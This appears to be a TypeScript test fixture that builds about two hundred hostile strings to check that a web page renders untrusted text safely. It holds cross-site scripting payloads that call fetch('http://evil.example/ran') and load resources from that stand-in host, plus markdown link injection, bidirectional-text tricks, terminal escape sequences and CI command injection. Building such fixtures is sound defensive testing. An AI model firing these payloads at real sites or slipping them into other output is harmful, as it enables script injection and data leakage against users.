/** What a hostile string's script does if it is executed: it leaves a mark in the page's document, and sends a request. */
const act = "document.documentElement.dataset.ran=1;fetch('http://evil.example/ran')"

const scripts: readonly string[] = [
  `<script>${act}</script>`,
  `<ScRiPt\n>${act}</sCrIpT\t>`,
  `<img src=x onerror="${act}">`,
  `<img/src="http://evil.example/x.png"/onload=${act}>`,
  `<svg onload="${act}"></svg>`,
  `<svg><script href="data:text/javascript,${act}"/></svg>`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${act}/>#x"/></svg>`,
  `<math><mtext></mtext><mglyph><style></math><img src onerror="${act}">`,
  `<body onload="${act}">`,
  `<details open ontoggle="${act}"><summary>x</summary></details>`,
  `<video autoplay onplay="${act}"><source src="http://evil.example/v"></video>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<object data="http://evil.example/o"></object><embed src="http://evil.example/e">`,
  `<link rel=stylesheet href="http://evil.example/s.css"><link rel=prefetch href="http://evil.example/p">`,
  `<style>@import 'http://evil.example/i.css';*{background:url(http://evil.example/b.png)}</style>`,
  `<div style="background:url(http://evil.example/d.png)">x</div>`,
  `<base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<form action="http://evil.example/f"><button autofocus onfocus="${act}">x</button></form>`,
  `<input autofocus onfocus="${act}"><textarea autofocus onfocus="${act}"></textarea>`,
  `<a href="javascript:${act}">click</a>`,
  `<a href="java\tscript:${act}">click</a>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`,
  `<!--><img src=x onerror="${act}">-->`,
  `<![CDATA[><script>${act}</script>]]>`,
  `\${${act}}{{constructor.constructor("${act}")()}}<%= ${act} %>`,
  `\`;${act};//`,
  `";${act};//`,
  `[x](javascript:${act}) [y](data:text/html,<script>${act}</script>) <javascript:${act}>`,
  `![p](http://evil.example/p.png) ![q][r]\n\n[r]: http://evil.example/q.png`,
  `[x](http://evil.example/"onmouseover="${act}) [y](<http://evil.example/ onclick=x>)`,
  `<http://evil.example/"onclick="${act}">`,
  `# <img src=x onerror="${act}">\n\n| a | <script>${act}</script> |\n| --- | --- |\n| \`<b>\` | x |`,
  `~~~html"><script>${act}</script>\n<script>${act}</script>\n~~~`,
  `--- a/<img src=x onerror="${act}">\n+++ b/"><script>${act}</script>\n@@ -1 +1 @@\n-<script>\n+<script>${act}</script>`,
]

const texts: readonly string[] = [
  'access\u202e\u2066// admin\u2069 \u2066',
  'a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh\u3164i',
  '\u001b]8;;http://evil.example/\u0007click\u001b]8;;\u0007 \u001b[2J\u001b[31mred',
  '\ud800 half \udc00 pair \ufffe\uffff \u{e0041}\u{e0042}',
  '\u0000\u0001\u0008\u000b\u000c\u007f\u0085\u009b',
  'line\u2028separator\u2029paragraph\r\rreturn\r\n',
  `${'x'.repeat(20_000)}</pre></code></details>`,
  `${'<div>'.repeat(3_000)}${'[('.repeat(2_000)}`,
  `${'*_`~'.repeat(2_000)}\n${'> '.repeat(400)}x`,
  '&lt;script&gt;&#x6a;avascript&colon;&#0;&amp;lt;',
  'id="step-1" name="attention" step-2 __proto__ constructor toString',
  '::error::x\n::add-mask::y\n##[group]z\n%0A::set-output name=a::b',
]

/** The beginnings of hostile strings: nothing, or texts that end the surrounding elements, attribute, comment or code if they aren't escaped. */
const breaks: readonly string[] = [
  '',
  '"\'>',
  '</pre></code></span></summary></details></title></style></script>',
  '--> ]]> `',
]

/** Two hundred strings that would run, load, close, reorder or hide something if a page treated them as more than text. */
export const hostileStrings: readonly string[] = breaks.flatMap((end) =>
  [...scripts, ...texts].map((text) => end + text),
)
